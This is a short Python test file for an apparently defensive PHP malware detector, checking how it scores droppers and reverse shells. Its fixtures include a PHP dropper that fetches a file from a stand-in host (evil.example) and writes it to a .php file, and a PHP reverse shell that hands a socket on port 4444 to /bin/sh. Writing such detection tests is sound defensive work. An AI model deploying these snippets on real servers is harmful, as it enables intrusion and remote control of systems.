"""Droppers: writing fetched content to a .php name is the heavier form; a socket handed
to a shell is a reverse shell.  (The family alone: the token analysis has its own loaders.)"""
from tests.support.families import php_family


def test_fetched_content_written_to_php_counts_more_than_to_data():
    php = php_family(b"<?php $d = file_get_contents('http://evil.example/x.txt');\n"
                     b"file_put_contents('x.php', $d);", 'sockets_and_droppers')
    data = php_family(b"<?php $d = file_get_contents('http://feeds.example/x.xml');\n"
                      b"file_put_contents('cache/x.xml', $d);", 'sockets_and_droppers')
    local = php_family(b"<?php $d = file_get_contents('cache/x.xml');\n"
                       b"file_put_contents('cache/y.xml', $d);", 'sockets_and_droppers')
    assert php == {'php.dropper.remote_write': [5, 7]}
    assert data == {'php.dropper.remote_write': [7]}
    assert local == {}


def test_a_socket_handed_to_a_shell_alone():
    found = php_family(b"<?php $s = fsockopen('10.0.0.1', 4444);\n"
                       b"proc_open('/bin/sh', array(0 => $s, 1 => $s, 2 => $s), $p);",
                       'sockets_and_droppers')
    assert found == {'php.revshell.socket_shell': [15]}
